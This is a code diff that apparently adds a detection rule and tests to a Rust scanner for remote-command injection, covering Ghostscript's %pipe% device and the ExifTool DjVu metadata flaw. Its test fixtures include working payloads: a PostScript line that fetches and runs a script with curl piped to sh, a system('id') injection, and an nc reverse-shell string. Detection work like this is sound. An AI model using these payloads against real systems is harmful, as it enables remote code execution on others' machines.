@@ -325,6 +325,13 @@ impl Rce {
                 RCE_SSTI,
                 r"<%[=-]?[^%]{0,200}(?:\bsystem\.cmd\b|:os\.cmd\b|\bsystem\s*\(|\bexec\s*\(|\bspawn\s*\(|\bio\.popen\b|%x\{|`[^`%]{1,80}`)[^%]{0,200}%>|\bsystem-property\s*\(\s*['\x22]xsl:|\bunparsed-text\s*\(|\bphp:function\s*\(|\bxalan:|\bjava:java\.lang\.",
             ),
+            // Ghostscript's `%pipe%` output device runs its argument (`/OutputFile
+            // (%pipe%curl ...|sh)` in an EPS); ExifTool read DjVu metadata as Perl
+            // (`(metadata "\c${system('id')};")`, CVE-2021-22204).
+            (
+                RCE_CONVERTER_COMMAND,
+                r#"%pipe%|\(\s*metadata\s[^)]{0,200}(?:\\c|\$\{|@\{)"#,
+            ),
             // Spreadsheet formulas at the start of a cell: DDE (`=cmd|' /C calc'!A0`), and a
             // URL built from other cells (`=HYPERLINK("http://x/?"&A1, ...)`).
             (
@@ -1291,6 +1298,32 @@ mod tests {
                 "@{[system \"touch /tmp/blns.fail\"]}",
                 "system 'cat /etc/hosts'",
                 "exec \"nc -e /bin/sh 10.0.0.1 4444\"",
+            ],
+        );
+    }
+
+    #[test]
+    fn converters_told_to_run_commands() {
+        rule(
+            RCE_CONVERTER_COMMAND,
+            true,
+            Kind::FileContent,
+            "file-content:file",
+            1,
+            &[
+                "%!PS\nmark /OutputFile (%pipe%curl http://x.example/s|sh) currentdevice putdeviceprops",
+                "AT&TFORM\0\0\0\x08DJVUANTa(metadata \"\\c${system('id')};\")",
+            ],
+        );
+        rule(
+            RCE_CONVERTER_COMMAND,
+            false,
+            Kind::Value,
+            "json:/note",
+            1,
+            &[
+                "the pipe is 50% off (metadata below)",
+                "(metadata \"Author\" \"Kim\")",
             ],
         );
     }
